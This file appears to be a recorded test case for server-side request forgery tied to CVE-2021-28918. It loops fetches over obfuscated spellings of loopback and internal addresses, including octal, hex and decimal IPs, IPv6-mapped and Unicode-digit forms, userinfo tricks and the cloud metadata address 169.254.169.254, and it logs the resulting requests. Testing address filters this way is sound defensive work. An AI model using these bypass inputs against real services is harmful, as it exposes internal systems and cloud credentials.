// class: server-side request forgery
// tries: to reach an address by a spelling of it that a check would not know
// source: CVE-2021-28918
// ending: value [200,200,200,200,200,200,200,200,200,200,200,"TypeError",200,200]
// tools: []
// outbound: [{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://[::1]/"},{"method":"GET","url":"http://[::ffff:7f00:1]/"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://localhost./"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://169.254.169.254/"},{"method":"GET","url":"http://0.0.0.0/"},{"method":"GET","url":"http://127.0.0.1/"},{"method":"GET","url":"http://127.0.0.1/@a.test/"}]
// setting: function

const got = [];
for (const host of ['127.1', '0x7f000001', '2130706433', '017700000001', '[::1]', '[::ffff:127.0.0.1]', '①②⑦.⓪.⓪.①', 'localhost.', '127.0.0.1\t', '169.254.169.254', '0', 'a.test@127.0.0.1', '127.0.0.1#@a.test', '127.0.0.1\\@a.test']) {
  try { got.push((await fetch(`http://${host}/`)).status); } catch (error) { got.push(error.name); }
}
return got;
